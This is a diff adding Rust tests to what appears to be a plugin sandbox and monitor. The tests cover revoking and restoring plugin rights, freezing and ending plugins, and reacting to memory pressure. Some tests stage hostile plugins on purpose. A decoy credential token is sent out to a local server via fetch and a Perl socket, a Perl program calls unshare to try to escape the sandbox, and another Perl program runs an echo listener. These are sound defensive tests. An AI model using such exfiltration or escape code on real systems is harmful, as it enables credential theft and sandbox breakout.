@@ -1,5 +1,7 @@
 //! Plugins that are watched: what is noticed, what is done about it, and how it is undone.
 
+use std::io::{Read as _, Write as _};
+use std::net::{Ipv4Addr, TcpListener, TcpStream};
 use std::sync::Arc;
 use std::sync::atomic::{AtomicU64, Ordering};
 use std::time::{Duration, Instant};
@@ -8,22 +10,30 @@ use aether::audit::Kind;
 use aether::manifest::Permission;
 use aether::monitor::Rung;
 use aether::monitor::pressure::{Load, Stall, Tier};
-use aether::{CallError, Ending, Event, Monitoring, StartError, StartOptions, Violation};
+use aether::{CallError, Ending, Event, Limit, Monitoring, StartError, StartOptions, Violation};
 use serde_json::json;
 
-use crate::lab::{Lab, policy, start, tests};
+use crate::lab::{Lab, is_there, policy, serve, start, tests};
 
 tests![
     a_plugin_that_looks_everywhere_is_found_out_and_ended_where_the_policy_says_so,
     without_a_word_of_the_owner_nobody_is_halted_or_ended,
     whoever_stands_still_is_not_called_and_goes_on_with_its_call,
     a_person_ends_what_a_person_halts,
+    whoever_cancels_what_stands_still_waits_for_nobody,
+    what_stands_still_is_ended_when_it_is_to_leave,
     what_is_taken_from_a_plugin_stays_away_until_a_person_gives_it_back,
     what_a_plugin_can_do_without_is_taken_first,
+    a_native_program_starts_without_what_was_taken,
+    nobody_is_let_in_while_that_is_taken,
+    what_is_under_way_counts_while_it_flows_and_ends_when_it_is_taken,
     who_matters_less_waits_when_memory_is_short_and_nothing_new_is_started,
+    a_guest_that_cannot_wait_is_ended_for_the_machines_sake,
     the_record_has_what_was_noticed_and_done,
     a_decoy_is_noticed,
+    a_token_that_nobody_is_to_send_is_noticed_wherever_it_goes,
     what_a_native_program_makes_of_the_kernel_is_behaviour,
+    a_native_program_that_tries_to_get_out_is_found_at_once,
 ];
 
 /// Asks for more and more places that it was not granted.
@@ -144,6 +154,41 @@ fn a_person_ends_what_a_person_halts() {
     assert_eq!(host.cells(), []);
 }
 
+fn whoever_cancels_what_stands_still_waits_for_nobody() {
+    let lab = Lab::new();
+    let (host, cell) = lab.start(LASTS);
+    let call = cell.begin("last", json!({ "ms": 1_000 }), Duration::from_secs(20));
+    std::thread::sleep(Duration::from_millis(200));
+    host.impose(cell.number(), Rung::Freeze, "the test").expect("it runs");
+    becomes(&lab, aether::report::Rung::Freeze);
+    call.cancel();
+    let asked = Instant::now();
+    assert_eq!(call.wait(), Err(CallError::Cancelled));
+    assert!(asked.elapsed() < Duration::from_secs(10), "it did not wait for it to go on");
+    // Longer than a cancelled call may take.
+    std::thread::sleep(Duration::from_millis(2_500));
+    host.restore(cell.number(), "the test").expect("it runs");
+    becomes(&lab, aether::report::Rung::Observe);
+    assert_eq!(cell.call("last", json!({ "ms": 1 })), Ok(json!("done")), "it had time to answer");
+    // The other way round: it is halted when its call was cancelled already.
+    let call = cell.begin("last", json!({ "ms": 1_000 }), Duration::from_secs(20));
+    std::thread::sleep(Duration::from_millis(200));
+    call.cancel();
+    host.impose(cell.number(), Rung::Freeze, "the test").expect("it runs");
+    assert_eq!(call.wait(), Err(CallError::Cancelled));
+    assert_eq!(cell.stop(), Ending::Killed);
+}
+
+fn what_stands_still_is_ended_when_it_is_to_leave() {
+    let lab = Lab::new();
+    let (host, cell) = lab.start(LASTS);
+    host.impose(cell.number(), Rung::Freeze, "the test").expect("it runs");
+    becomes(&lab, aether::report::Rung::Freeze);
+    let pid = lab.pid_of(&host, cell.number());
+    assert_eq!(cell.stop(), Ending::Killed, "it is not let go on for that");
+    assert!(!is_there(pid));
+}
+
 fn what_is_taken_from_a_plugin_stays_away_until_a_person_gives_it_back() {
     let lab = Lab::new();
     let kept = lab.aside("narrowed.json");
@@ -209,6 +254,132 @@ fn what_a_plugin_can_do_without_is_taken_first() {
     assert!(taken.as_str().expect("a text").contains("the monitor has taken"), "{taken}");
 }
 
+fn a_native_program_starts_without_what_was_taken() {
+    let lab = Lab::new();
+    let kept = lab.aside("narrowed.json");
+    lab.file("data.txt", "data");
+    let policed =
+        "version: 1\nplugins: { p: { allow: { filesystem: { read: [\"./data.txt\"] } } } }\n";
+    let monitoring =
+        Monitoring { drops: vec![Permission::FilesystemRead], ..Monitoring::default() };
+    let builder = lab.builder().policy(policy(policed)).monitoring(monitoring);
+    let host = builder.keep_narrowed(&kept).build().expect("a host");
+    let called = r#"if read -r there 2>/dev/null </workspace/data.txt || [ -n "$there" ]; then
+        answer "$id" '{"output":{"json":"'"$there"'"}}'; else answer "$id" '{"output":{"json":"gone"}}'; fi"#;
+    let folder = lab.native_with("p", r#"{ "filesystem": { "read": ["./data.txt"] } }"#, called);
+    let plugin = host.load(folder).expect("a plugin");
+    let cell = start(&host, &plugin);
+    assert_eq!(cell.call("run", json!({})), Ok(json!("data")));
+    cell.stop();
+    let list = r#"{ "version": 1, "plugins": { "p": { "because": "It did.", "since": "2026-01-01T00:00:00Z" } } }"#;
+    std::fs::write(&kept, list).expect("a list");
+    let cell = start(&host, &plugin);
+    assert_eq!(cell.call("run", json!({})), Ok(json!("gone")));
+    cell.stop();
+    assert!(aether::restore_narrowed(&kept, "p").expect("a list"));
+    let cell = start(&host, &plugin);
+    assert_eq!(cell.call("run", json!({})), Ok(json!("data")));
+}
+
+/// A connection to a port that answers what it is told; nothing where it is closed.
+fn echoing(port: u16) -> Option<TcpStream> {
+    let mut stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port)).ok()?;
+    stream.set_read_timeout(Some(Duration::from_secs(20))).expect("a stream");
+    echo(&mut stream).then_some(stream)
+}
+
+fn echo(stream: &mut TcpStream) -> bool {
+    let mut heard = [0; 5];
+    stream.write_all(b"echo\n").is_ok() && stream.read_exact(&mut heard).is_ok()
+}
+
+fn nobody_is_let_in_while_that_is_taken() {
+    let lab = Lab::new();
+    let free = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a port");
+    let port = free.local_addr().expect("an address").port();
+    drop(free);
+    let policed = format!(
+        "version: 1\nplugins: {{ p: {{ allow: {{ network: {{ inbound: [{port}] }}, process: [perl] }} }} }}\n"
+    );
+    let monitoring =
+        Monitoring { drops: vec![Permission::NetworkInbound], ..Monitoring::default() };
+    let builder = lab.builder().policy(policy(&policed)).monitoring(monitoring);
+    let host = builder.build().expect("a host");
+    let asks = format!(r#"{{ "network": {{ "inbound": [{port}] }}, "process": ["perl"] }}"#);
+    let listens = format!(
+        r#"perl -MIO::Socket::INET -e '$l = IO::Socket::INET->new(Listen => 5, LocalAddr => "127.0.0.1", LocalPort => {port}) or die; while ($c = $l->accept) {{ while ($x = <$c>) {{ print $c $x }} }}' >/dev/null &
+        answer "$id" '{{"output":{{"json":1}}}}'"#
+    );
+    let folder = lab.native_with("p", &asks, &listens);
+    let cell = start(&host, &host.load(folder).expect("a plugin"));
+    assert_eq!(cell.call("run", json!({})), Ok(json!(1)));
+    let until = Instant::now() + Duration::from_secs(20);
+    let mut open = loop {
+        if let Some(stream) = echoing(port) {
+            break stream;
+        }
+        assert!(Instant::now() < until, "nobody listens");
+        std::thread::sleep(Duration::from_millis(20));
+    };
+    host.impose(cell.number(), Rung::Narrow, "the test").expect("it runs");
+    becomes(&lab, aether::report::Rung::Narrow);
+    assert!(!echo(&mut open), "what is open is broken");
+    assert!(echoing(port).is_none());
+    host.restore(cell.number(), "the test").expect("it runs");
+    becomes(&lab, aether::report::Rung::Observe);
+    assert!(echoing(port).is_some());
+    assert_eq!(cell.stop(), Ending::Normal);
+    let record = host.record("test", aether::ExitCode::Done, "", Vec::new());
+    let last = record.cells[0].resources.samples.last().expect("samples");
+    assert!(last.bytes_in >= 10 && last.bytes_out >= 10, "it counts: {last:?}");
+}
+
+fn what_is_under_way_counts_while_it_flows_and_ends_when_it_is_taken() {
+    /// Bytes that come at once.
+    const BYTES: usize = 100_000;
+    let lab = Lab::new();
+    let port = serve(|mut stream, _| {
+        let head = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n";
+        let body = format!("{head}{BYTES:x}\r\n{}\r\n", "x".repeat(BYTES));
+        drop(stream.write_all(body.as_bytes()));
+        // The end never comes: the client leaves, or the test's time is over.
+        drop(stream.set_read_timeout(Some(Duration::from_secs(60))));
+        drop(stream.read(&mut [0]));
+    });
+    let at = format!("localhost:{port}");
+    let policed = format!(
+        "version: 1\nplugins: {{ p: {{ allow: {{ network: {{ domains: [\"{at}\"], private: [\"{at}\"] }} }} }} }}\n"
+    );
+    let host = lab.builder().policy(policy(&policed)).build().expect("a host");
+    let request = format!(r#"{{ "network": {{ "domains": ["{at}"] }} }}"#);
+    let code = format!(
+        r#"export async function get() {{
+            try {{ return await (await fetch("http://{at}/")).text(); }}
+            catch (error) {{ return String(error.cause ?? error); }}
+        }}"#
+    );
+    let folder = lab.plugin("p").permissions(&request).main(&code);
+    let cell = start(&host, &host.load(folder).expect("a plugin"));
+    let call = cell.begin("get", json!({}), Duration::from_secs(50));
+    let received = || host.overview().first().map_or(0, |view| view.sample.bytes_in);
+    let begun = Instant::now();
+    while received() < BYTES as u64 {
+        assert!(begun.elapsed() < Duration::from_secs(20), "{} bytes", received());
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    assert!(call.wait_for(Duration::ZERO).is_none(), "it is under way");
+    host.impose(cell.number(), Rung::Narrow, "the test").expect("it runs");
+    let said = call.wait_for(Duration::from_secs(20)).expect("it has ended").expect("an answer");
+    assert!(!said.as_str().expect("a text").starts_with('x'), "{said}");
+    let taken = cell.call("get", json!({})).expect("an answer");
+    assert!(!taken.as_str().expect("a text").starts_with('x'), "{taken}");
+    let denied = lab.heard.of(|event| match event {
+        Event::Denied { denied, .. } => Some(denied.message.clone()),
+        _ => None,
+    });
+    assert!(denied.iter().any(|why| why.contains("the monitor has taken")), "{denied:?}");
+}
+
 fn who_matters_less_waits_when_memory_is_short_and_nothing_new_is_started() {
     let lab = Lab::new();
     // Percent of the time that some work waits for memory.
@@ -241,6 +412,30 @@ fn who_matters_less_waits_when_memory_is_short_and_nothing_new_is_started() {
     lab.heard.until(|event| {
         matches!(event, Event::Ladder { step, .. } if step.by == "pressure" && step.to < step.from)
     });
+}
+
+fn a_guest_that_cannot_wait_is_ended_for_the_machines_sake() {
+    let lab = Lab::new();
+    let short = Arc::new(AtomicU64::new(0));
+    let told = Arc::clone(&short);
+    let load = Arc::new(move || {
+        let some = told.load(Ordering::SeqCst) as f64;
+        Some(Load { memory: Stall { some, full: 0.0 }, ..Load::default() })
+    });
+    let monitoring = Monitoring { load: Some(load), ..Monitoring::default() };
+    let text = "version: 1\nplugins: { p: { priority: low, isolation: in-process } }\n";
+    let host = lab.builder().policy(policy(text)).monitoring(monitoring).build().expect("a host");
+    let folder = lab.plugin("p").with("runtime", r#""wasm""#).with("entry", r#""main.wasm""#);
+    let folder = folder.main("");
+    let bytes = wat::parse_str("(module (func (export \"one\") (result i32) (i32.const 1)))");
+    lab.file("p/main.wasm", bytes.expect("a module"));
+    let cell = start(&host, &host.load(folder).expect("a plugin"));
+    assert_eq!(cell.call("one", json!({})), Ok(json!(1)));
+    short.store(40, Ordering::SeqCst);
+    let number = cell.number();
+    lab.heard.until(|event| matches!(event, Event::Ended { cell, .. } if *cell == number));
+    let ending = cell.stop();
+    assert!(matches!(ending, Ending::Limit(Limit::Pressure("memory"))), "{ending:?}");
 }
 
 fn the_record_has_what_was_noticed_and_done() {
@@ -289,6 +484,79 @@ fn a_decoy_is_noticed() {
         _ => None,
     });
     assert!(rules.iter().any(|(rule, _)| rule.contains("honey")), "{rules:?}");
+}
+
+fn a_token_that_nobody_is_to_send_is_noticed_wherever_it_goes() {
+    const TOKEN: &str = "AKIAQ7XMPLE2DECOY3KX";
+    let server = serve(|mut stream, _| {
+        drop(stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"));
+    });
+    let at = format!("localhost:{server}");
+    let policed = format!(
+        "version: 1\nmonitor: {{ tokens: {{ wallet: {TOKEN} }} }}\nplugins: {{ \"*\": {{ allow: {{ process: [perl], network: {{ domains: [\"{at}\"], private: [\"{at}\"] }} }} }} }}\n"
+    );
+    let request = format!(r#"{{ "network": {{ "domains": ["{at}"] }} }}"#);
+    let found = |lab: &Lab| {
+        lab.heard.until(|event| matches!(event, Event::Finding { finding, .. } if finding.rule == "honey-token"));
+        let told = lab.heard.of(|event| match event {
+            Event::Finding { finding, .. } => Some(finding.sentence.clone()),
+            _ => None,
+        });
+        assert!(told.iter().all(|sentence| !sentence.contains(TOKEN)), "{told:?}");
+    };
+    // To its host, and to another machine.
+    for (code, refused) in [
+        (
+            format!(
+                "import {{ set }} from 'aether:kv'; export const go = () => set('k', '{TOKEN}');"
+            ),
+            false,
+        ),
+        (
+            format!(
+                "export const go = async () => {{ try {{ await fetch('http://{at}/', {{ method: 'POST', body: new TextEncoder().encode('key={TOKEN}') }}); }} catch (error) {{ return String(error); }} }}"
+            ),
+            true,
+        ),
+    ] {
+        let lab = Lab::new();
+        let host = lab.builder().policy(policy(&policed)).build().expect("a host");
+        let folder = lab.plugin("p").permissions(&request).main(&code);
+        let cell = start(&host, &host.load(folder).expect("a plugin"));
+        let said = cell.call("go", json!({})).expect("an answer").to_string();
+        assert_eq!(said.contains("decoy `wallet`"), refused, "{said}");
+        found(&lab);
+    }
+    // From a native program, over its way out.
+    let lab = Lab::new();
+    let host = lab.builder().policy(policy(&policed)).build().expect("a host");
+    let asks = request.replacen('{', r#"{ "process": ["perl"], "#, 1);
+    let sends = format!(
+        r#"perl -MIO::Socket::INET -e '($at) = $ENV{{http_proxy}} =~ m!//([^/]*)!; $s = IO::Socket::INET->new($at) or die; print $s "GET http://{at}/?k={TOKEN} HTTP/1.1\r\nHost: {at}\r\nConnection: close\r\n\r\n"; print STDERR <$s>' >&2
+        answer "$id" '{{"output":{{"json":1}}}}'"#
+    );
+    let folder = lab.native_with("n", &asks, &sends);
+    let cell = start(&host, &host.load(folder).expect("a plugin"));
+    assert_eq!(cell.call("run", json!({})), Ok(json!(1)));
+    found(&lab);
+}
+
+fn a_native_program_that_tries_to_get_out_is_found_at_once() {
+    let lab = Lab::new();
+    let text = "version: 1\nplugins: { p: { allow: { process: [perl] } } }\n";
+    let host = lab.builder().policy(policy(text)).build().expect("a host");
+    // unshare(2) of a user namespace, and then nothing for a while.
+    let number = if cfg!(target_arch = "x86_64") { 272 } else { 97 };
+    let tries = format!(
+        r#"perl -e 'syscall({number}, 0x10000000); sleep 20'; answer "$id" '{{"output":{{"json":1}}}}'"#
+    );
+    let folder = lab.native_with("p", r#"{ "process": ["perl"] }"#, &tries);
+    let cell = start(&host, &host.load(folder).expect("a plugin"));
+    let call = cell.begin("run", json!({}), Duration::from_secs(60));
+    lab.heard
+        .until(|event| matches!(event, Event::Finding { finding, .. } if finding.rule == "escape"));
+    assert!(call.wait_for(Duration::ZERO).is_none(), "while it is at work");
+    assert_eq!(cell.stop(), Ending::Killed);
 }
 
 fn what_a_native_program_makes_of_the_kernel_is_behaviour() {
